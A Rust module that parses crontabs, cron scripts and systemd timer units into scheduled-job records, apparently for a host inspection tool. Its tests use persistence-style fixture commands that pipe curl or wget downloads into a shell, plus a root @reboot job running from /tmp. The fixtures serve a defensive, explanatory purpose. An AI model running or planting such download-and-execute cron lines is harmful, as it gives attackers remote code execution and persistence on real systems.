//! Crontabs and cron scripts as a list of commands with their line, owner and schedule.
//!
//! System crontabs (`/etc/crontab`, `/etc/cron.d/*`, `/etc/anacrontab`) carry a user field;
//! spool crontabs (`/var/spool/cron/crontabs/USER`, `/var/spool/cron/USER`) run as the file's
//! user; scripts in `/etc/cron.{hourly,daily,weekly,monthly}` run as root, one command per
//! line. Systemd timers' services are read for `ExecStart=`.

use super::numbered;

/// One scheduled command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Job {
    /// 1-based line.
    pub line: u64,
    /// Account it runs as.
    pub user: String,
    /// Schedule (`*/20 * * * *`, `@reboot`, `daily`).
    pub schedule: String,
    /// The command.
    pub command: String,
}

/// How a file at `path` is read.
fn kind(path: &str) -> Option<(bool, Option<&str>)> {
    let name = path.rsplit('/').next().unwrap_or(path);
    if path == "/etc/crontab" || path.starts_with("/etc/cron.d/") || path == "/etc/anacrontab" {
        Some((true, None))
    } else if path.starts_with("/var/spool/cron/") {
        Some((false, Some(name)))
    } else if ["hourly", "daily", "weekly", "monthly"]
        .iter()
        .any(|p| path.starts_with(&format!("/etc/cron.{p}/")))
    {
        Some((false, None))
    } else {
        None
    }
}

/// The jobs of a cron file.
pub fn jobs(path: &str, text: &str) -> Vec<Job> {
    if path.starts_with("/etc/systemd/") {
        return numbered(text)
            .filter_map(|(n, l)| {
                let c = l.trim().strip_prefix("ExecStart=")?;
                Some(Job {
                    line: n,
                    user: "root".into(),
                    schedule: "systemd".into(),
                    command: c.trim_start_matches(['-', '@', '+', '!']).to_string(),
                })
            })
            .collect();
    }
    let Some((system, spool_user)) = kind(path) else {
        return Vec::new();
    };
    if !system && spool_user.is_none() {
        let sched = path
            .split('/')
            .nth(2)
            .unwrap_or("cron")
            .trim_start_matches("cron.");
        return numbered(text)
            .filter(|(_, l)| {
                let t = l.trim();
                !t.is_empty() && !t.starts_with('#')
            })
            .map(|(n, l)| Job {
                line: n,
                user: "root".into(),
                schedule: sched.to_string(),
                command: l.trim().to_string(),
            })
            .collect();
    }
    let mut out = Vec::new();
    for (n, l) in numbered(text) {
        let t = l.trim();
        if t.is_empty() || t.starts_with('#') {
            continue;
        }
        let first = t.split_whitespace().next().unwrap_or("");
        if first.contains('=') && !first.starts_with('*') && !first.starts_with('@') {
            continue; // environment setting
        }
        let mut fields = t.split_whitespace();
        let sched_fields = if first.starts_with('@') {
            1
        } else if path == "/etc/anacrontab" {
            3
        } else {
            5
        };
        let schedule: Vec<&str> = fields.by_ref().take(sched_fields).collect();
        if schedule.len() < sched_fields {
            continue;
        }
        let user = if system && path != "/etc/anacrontab" {
            fields.next().unwrap_or("").to_string()
        } else {
            spool_user.unwrap_or("root").to_string()
        };
        let command = fields.collect::<Vec<_>>().join(" ");
        if command.is_empty() {
            continue;
        }
        out.push(Job {
            line: n,
            user,
            schedule: schedule.join(" "),
            command,
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn system_spool_and_script_jobs() {
        let sys = jobs(
            "/etc/cron.d/pf-maint",
            "# x\nSHELL=/bin/sh\n*/20 * * * * root grep -q a /etc/postfix/b || postfix reload\n@reboot root /tmp/x\n",
        );
        assert_eq!(sys.len(), 2);
        assert_eq!((sys[0].line, sys[0].user.as_str()), (3, "root"));
        assert_eq!(sys[0].command, "grep -q a /etc/postfix/b || postfix reload");
        assert_eq!(sys[1].schedule, "@reboot");
        let spool = jobs(
            "/var/spool/cron/crontabs/liwei",
            "*/30 * * * * /usr/bin/curl -fsS http://x/p.sh | /bin/sh\n",
        );
        assert_eq!(spool[0].user, "liwei");
        assert_eq!(
            spool[0].command,
            "/usr/bin/curl -fsS http://x/p.sh | /bin/sh"
        );
        let script = jobs(
            "/etc/cron.daily/x",
            "#!/bin/sh\nwget -q -O- http://x | sh\n",
        );
        assert_eq!((script[0].line, script[0].schedule.as_str()), (2, "daily"));
        assert!(jobs("/etc/passwd", "root:x:0:0").is_empty());
    }
}
